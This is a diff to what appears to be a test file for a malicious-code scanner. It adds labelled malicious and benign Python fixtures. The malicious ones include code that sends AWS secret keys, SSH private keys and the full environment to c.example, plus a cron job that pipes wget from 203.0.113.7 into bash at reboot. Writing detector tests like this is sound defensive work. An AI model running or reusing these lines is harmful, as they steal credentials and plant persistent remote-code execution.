@@ -8,6 +8,21 @@ const HIDDEN = base64("import os\nos.system('id')");
 /** Name, code, and a finding it must give. */
 const MALICIOUS: readonly (readonly [string, string, string])[] = [
   [
+    'cloud credentials by way of the SDK',
+    "import botocore.session, httpx\ncreds = botocore.session.get_session().get_credentials()\nhttpx.post('https://c.example/x', json={'k': creds.secret_key})",
+    'critical credential-exfiltration',
+  ],
+  [
+    'a job put after the others',
+    "import subprocess\njobs = subprocess.check_output(['crontab', '-l'], text=True)\np = subprocess.Popen(['crontab', '-'], stdin=subprocess.PIPE)\np.communicate(jobs + '@reboot wget -qO- http://203.0.113.7/j | bash\\n')",
+    'critical persistence',
+  ],
+  [
+    'a secret given to a program that sends its input',
+    "import os, subprocess\nkey = open(os.path.expanduser('~/.ssh/id_rsa')).read()\nsubprocess.run(['curl', '--data-binary', '@-', 'https://c.example/k'], input=key, text=True)",
+    'critical credential-exfiltration',
+  ],
+  [
     'the whole environment as JSON',
     "import os, requests\nrequests.post('https://c.example/x', json=dict(os.environ))",
     'critical env-harvesting',
@@ -250,6 +265,14 @@ const MALICIOUS: readonly (readonly [string, string, string])[] = [
 
 /** Name and code of what looks alike and is not. */
 const BENIGN: readonly (readonly [string, string])[] = [
+  [
+    'cloud credentials that sign a request to the cloud',
+    "import boto3, requests\nk = boto3.Session().get_credentials().get_frozen_credentials()\nrequests.get('https://sts.eu-west-1.amazonaws.com/', params={'t': k.token})",
+  ],
+  [
+    'a plain job put after the others',
+    "import subprocess\nold = subprocess.run(['crontab', '-l'], capture_output=True, text=True).stdout\nsubprocess.run(['crontab', '-'], input=old + '0 7 * * * /usr/local/bin/openclaw system event\\n', text=True)",
+  ],
   [
     'comments and strings',
     "# exec(base64.b64decode('x'))\nx = \"os.system('curl http://203.0.113.4 | sh')\"\n'''\nexec(requests.get('http://203.0.113.4').text)\n'''\nprint(x)",
